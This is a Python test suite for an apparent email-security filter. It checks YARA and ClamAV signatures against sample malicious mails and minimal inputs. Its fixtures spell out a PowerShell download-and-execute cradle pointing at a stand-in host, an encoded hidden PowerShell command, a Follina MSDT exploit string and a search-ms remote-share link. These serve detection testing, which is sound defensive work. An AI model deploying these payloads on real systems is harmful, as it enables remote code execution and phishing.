"""The signature sets under signatures/ against the demonstration mails in samples/.

YARA rules are matched on parts decoded with the stdlib ``email`` package, with the
externals the YARA detector supplies; ClamAV signatures are loaded by ``clamscan -d
signatures/clamav`` alone, in one invocation because clamscan is slow to start.
EICAR is only ever built at run time (``samples/samplekit/payloads.py``).
"""

from __future__ import annotations

import email
import email.policy
import importlib.util
import io
import re
import subprocess
import sys
import zipfile
from email.message import EmailMessage
from pathlib import Path
from types import ModuleType
from typing import Any

import magic
import pytest
import yara

from mailwarden.detect import yara as yara_detector

ROOT = Path(__file__).resolve().parents[2]
SIGNATURES = ROOT / "signatures"
SAMPLES = ROOT / "samples"
SEVERITIES = {"low", "medium", "high", "critical"}
ACTIONS = {"accept", "tag", "quarantine", "reject"}
EXTERNALS = {
    "filename": "",
    "extension": "",
    "filetype": "",
    "declared_type": "",
    "part_path": "",
}

# fmt: off
#: Quarantine and reject samples: (sample, part, YARA rules it must hit exactly,
#: type libmagic must detect). A part "a.zip:member" is a member of attachment a.zip.
HOSTILE = [
    ("quarantine/html-smuggling.eml", "Remittance_Advice.html",
     {"html_smuggling.HTML_Smuggling_Blob_Download"}, "text/html"),
    ("quarantine/svg-data-uri-smuggling.eml", "Statement.svg",
     {"html_smuggling.HTML_Smuggling_DataURI_Download"}, "image/svg+xml"),
    ("quarantine/ole-doc-autoopen-macro.eml", "PO_4471.doc",
     {"office_macros.Office_OLE_AutoExec_Macro"}, "application/msword"),
    ("quarantine/docm-macro-project.eml", "Invoice_Q3.docm",
     {"office_macros.Office_OOXML_Macro_Project"},
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("quarantine/docm-macro-project.eml", "Invoice_Q3.docm:word/vbaProject.bin",
     {"office_macros.Office_OLE_AutoExec_Macro"}, "application/x-ole-storage"),
    ("quarantine/script-dropper-txt.eml", "vpn-setup.txt",
     {"script_droppers.Script_WSH_Dropper"}, "text/plain"),
    ("quarantine/double-extension-pdf-html.eml", "invoice.pdf.html", set(),
     "text/html"),
    ("quarantine/embedded-pe-in-firmware.eml", "RT-2400-firmware.bin",
     {"executables.Executable_PE_Embedded"}, "application/octet-stream"),
    ("reject/pe-disguised-as-pdf.eml", "invoice.pdf",
     {"executables.Executable_PE"}, "application/vnd.microsoft.portable-executable"),
    ("reject/js-attachment.eml", "payment_details.js",
     {"script_droppers.Script_WSH_Dropper",
      "script_droppers.Script_PowerShell_EncodedCommand"}, "text/plain"),
    ("reject/scr-attachment.eml", "holiday_photos.scr",
     {"executables.Executable_PE"}, "application/vnd.microsoft.portable-executable"),
]
# fmt: on


# fmt: off
#: Rules no sample mail exercises, on minimal inputs: (case id, bytes, rules hit).
MINIMAL = [
    ("elf", b"\x7fELF\x02\x01\x01" + bytes(57), {"executables.Executable_ELF"}),
    ("macho-64", b"\xcf\xfa\xed\xfe" + bytes(60), {"executables.Executable_MachO"}),
    ("macho-universal", b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(56),
     {"executables.Executable_MachO"}),
    ("java-class-is-not-macho", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(56),
     set()),
    ("powershell-cradle",
     b"IEX (New-Object Net.WebClient).DownloadString('http://a.example.test/x')",
     {"script_droppers.Script_PowerShell_Download_Cradle"}),
    ("powershell-base64-assembly",
     b"$b = [Convert]::FromBase64String($p); [Reflection.Assembly]::Load($b)",
     {"script_droppers.Script_PowerShell_Download_Cradle"}),
    ("powershell-encoded-utf16",
     "pwsh.exe -NoP -w hidden -ec SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABO"
     .encode("utf-16-le"),
     {"script_droppers.Script_PowerShell_EncodedCommand"}),
    ("powershell-mentioned", b"Run powershell -File deploy.ps1 -Environment prod",
     set()),
    ("old-browser-xhr",
     b'x = new ActiveXObject("Microsoft.XMLHTTP"); m = re.exec(s); w.run(1)',
     set()),
]
# fmt: on


def _load_build() -> ModuleType:
    """samples/build.py, loaded by path: samples/ is deliberately not a package."""
    spec = importlib.util.spec_from_file_location("samples_build", SAMPLES / "build.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module


build = _load_build()


def _rule_files() -> list[Path]:
    folder = SIGNATURES / "yara"
    return sorted([*folder.glob("*.yar"), *folder.glob("*.yara")])


def _rule_names() -> list[tuple[str, str]]:
    """(namespace, rule) of every rule, read per file (yara.Rule has no namespace)."""
    return [
        (path.stem, rule.identifier)
        for path in _rule_files()
        for rule in yara.compile(str(path), externals=EXTERNALS, error_on_warning=True)
    ]


@pytest.fixture(scope="module")
def rules() -> Any:
    return yara.compile(
        filepaths={p.stem: str(p) for p in _rule_files()},
        externals=EXTERNALS,
        error_on_warning=True,
    )


def _committed(*outcomes: str) -> list[str]:
    return sorted(
        str(path.relative_to(SAMPLES))
        for outcome in outcomes
        for path in (SAMPLES / outcome).glob("*.eml")
        if not path.name.startswith("generated-")
    )


def _message(sample: str) -> EmailMessage:
    raw = (SAMPLES / sample).read_bytes()
    message = email.message_from_bytes(raw, policy=email.policy.default)
    assert isinstance(message, EmailMessage)
    return message


def _leaves(message: EmailMessage) -> list[tuple[str, str, bytes]]:
    """(part path, declared type, decoded bytes) of every non-multipart part."""
    leaves = []
    for index, part in enumerate(message.walk()):
        if part.is_multipart():
            continue
        name = part.get_filename()
        path = f"attachment:{name}" if name else f"body:{index}"
        data = part.get_payload(decode=True)
        assert isinstance(data, bytes)
        leaves.append((path, part.get_content_type(), data))
    return leaves


def _part(sample: str, wanted: str) -> tuple[str, str, bytes]:
    outer, _, member = wanted.partition(":")
    for path, declared, data in _leaves(_message(sample)):
        if path == f"attachment:{outer}":
            if not member:
                return path, declared, data
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                return f"{path}:{member}", "", archive.read(member)
    raise AssertionError(f"{sample} has no part {wanted}")


def _hits(rules: Any, path: str, declared: str, data: bytes) -> set[str]:
    name = path.rsplit(":", 1)[-1] if path.startswith("attachment:") else ""
    externals = {
        "filename": name,
        "extension": name.rsplit(".", 1)[-1].lower() if "." in name else "",
        "filetype": magic.from_buffer(data, mime=True),
        "declared_type": declared,
        "part_path": path,
    }
    return {
        f"{m.namespace}.{m.rule}" for m in rules.match(data=data, externals=externals)
    }


def test_yara_directory_compiles_with_the_externals(rules: Any) -> None:
    """Every .yar file compiles warning-free alone and, one namespace each, together."""
    names = _rule_names()

    assert {namespace for namespace, _ in names} == {p.stem for p in _rule_files()}
    assert len(_rule_files()) >= 4
    assert len(names) == len(list(rules))


def test_yara_externals_are_the_ones_the_detector_supplies() -> None:
    """The rules are compiled here with exactly the externals the detector defines."""
    assert set(EXTERNALS) == set(yara_detector.EXTERNALS)


def test_every_yara_rule_carries_the_policy_meta(rules: Any) -> None:
    """Each rule has a description, a known severity, our author and a valid action."""
    for rule in rules:
        meta = rule.meta
        assert meta.get("description"), rule.identifier
        assert meta.get("severity") in SEVERITIES, rule.identifier
        assert meta.get("author") == "mailwarden", rule.identifier
        assert meta.get("mailwarden_action", "quarantine") in ACTIONS, rule.identifier


@pytest.mark.parametrize(
    ("sample", "part", "expected", "detected"),
    HOSTILE,
    ids=[f"{s}:{p}" for s, p, _, _ in HOSTILE],
)
def test_hostile_sample_part_hits_the_intended_rules(
    rules: Any, sample: str, part: str, expected: set[str], detected: str
) -> None:
    """The decoded part hits exactly the intended rules and has the intended type."""
    path, declared, data = _part(sample, part)

    assert magic.from_buffer(data, mime=True) == detected
    assert _hits(rules, path, declared, data) == expected


def test_every_hostile_sample_has_an_expectation() -> None:
    """No quarantine or reject sample is left out of the table above."""
    expected = {sample for sample, _, _, _ in HOSTILE}
    assert set(_committed("quarantine", "reject")) == expected


@pytest.mark.parametrize(
    ("data", "expected"), [c[1:] for c in MINIMAL], ids=[c[0] for c in MINIMAL]
)
def test_rules_without_a_sample_on_minimal_inputs(
    rules: Any, data: bytes, expected: set[str]
) -> None:
    """Rules that no sample exercises hit their minimal case, and near misses do not."""
    assert _hits(rules, "attachment:sample.bin", "", data) == expected


def test_every_yara_rule_has_a_positive_case() -> None:
    """Each rule is hit by at least one sample part or minimal input above."""
    covered = set().union(*(c[2] for c in HOSTILE), *(c[2] for c in MINIMAL))
    assert {f"{ns}.{rule}" for ns, rule in _rule_names()} <= covered


@pytest.mark.parametrize("sample", _committed("accept", "tag"))
def test_accept_and_tag_samples_hit_no_yara_rule(rules: Any, sample: str) -> None:
    """No part of a sample that must stay below quarantine hits a YARA rule."""
    for path, declared, data in _leaves(_message(sample)):
        assert _hits(rules, path, declared, data) == set(), path


@pytest.mark.parametrize("sample", _committed("accept"))
def test_accept_sample_attachments_are_what_they_claim(sample: str) -> None:
    """libmagic agrees with the declared type of every accept attachment."""
    for path, declared, data in _leaves(_message(sample)):
        if path.startswith("attachment:"):
            assert magic.from_buffer(data, mime=True) == declared, path


def test_samples_are_well_formed_and_up_to_date() -> None:
    """Each sample parses cleanly, has the RFC 5322 headers and matches build.py."""
    for sample in build.SAMPLES:
        raw = sample.path.read_bytes()
        message = email.message_from_bytes(raw, policy=email.policy.default)
        headers = ("Date", "From", "To", "Subject", "Message-ID", "MIME-Version")
        assert all(message[h] for h in headers), sample.name
        assert not message.defects, sample.name
        assert b"\r" not in raw, sample.name
        assert raw == build.render(sample), f"{sample.name}: run samples/build.py"


def test_no_raw_eicar_in_the_checkout() -> None:
    """The EICAR string exists only at run time, never in a file we commit."""
    test_file = build.eicar()
    for folder in (SIGNATURES, SAMPLES, ROOT / "tests"):
        for path in folder.rglob("*"):
            if path.is_file() and "generated-" not in path.name:
                assert test_file not in path.read_bytes(), path


def test_clamscan_with_our_signatures_only(tmp_path: Path) -> None:
    """clamscan -d signatures/clamav finds EICAR (plain, embedded, zipped in a mail)
    and our other signatures, and nothing in the accept, tag or quarantine samples."""
    generated = build.write_generated(tmp_path)
    embedded = tmp_path / "notes-with-eicar.txt"
    embedded.write_bytes(b"Release notes\n" * 20 + build.eicar() + b"\nEnd of notes\n")
    follina = tmp_path / "follina.html"
    follina.write_text(
        '<script>location.href = "MS-MSDT:/id PCWDiagnostic /skip force /param '
        '\\"IT_RebrowseForFile=? IT_BrowseForFile=$(calc)i/../../x.exe\\""</script>'
    )
    search_ms = tmp_path / "search-ms.html"
    search_ms.write_text(
        '<a href="search-ms:query=invoice&crumb=location:\\\\share.example.test'
        '@SSL\\DavWWWRoot">Open</a>'
    )
    expected = {
        generated[0]: "Mailwarden.Test.EICAR.UNOFFICIAL",
        generated[1]: "Mailwarden.Test.EICAR.UNOFFICIAL",
        embedded: "Mailwarden.Test.EICAR-Body.UNOFFICIAL",
        follina: "Mailwarden.Exploit.MSDT-Follina.UNOFFICIAL",
        search_ms: "Mailwarden.Exploit.SearchMS-RemoteCrumb.UNOFFICIAL",
        SAMPLES / "reject/js-attachment.eml":
            "Mailwarden.Script.PowerShell-EncodedCommand.UNOFFICIAL",
    }  # fmt: skip
    clean = sorted(
        p for outcome in ("accept", "tag", "quarantine")
        for p in (SAMPLES / outcome).glob("*.eml")
    )  # fmt: skip

    result = subprocess.run(
        ["clamscan", "--no-summary", "--allmatch", "-d", str(SIGNATURES / "clamav"),
         *map(str, [*expected, *clean])],
        capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip

    assert result.returncode == 1, result.stderr
    found: dict[str, set[str]] = {}
    for line in result.stdout.splitlines():
        match = re.fullmatch(r"(.+): (\S+) FOUND", line)
        if match:
            found.setdefault(match[1], set()).add(match[2])
    for path, name in expected.items():
        assert name in found.get(str(path), set()), (path, found.get(str(path)))
    assert not {str(p) for p in clean} & set(found), found
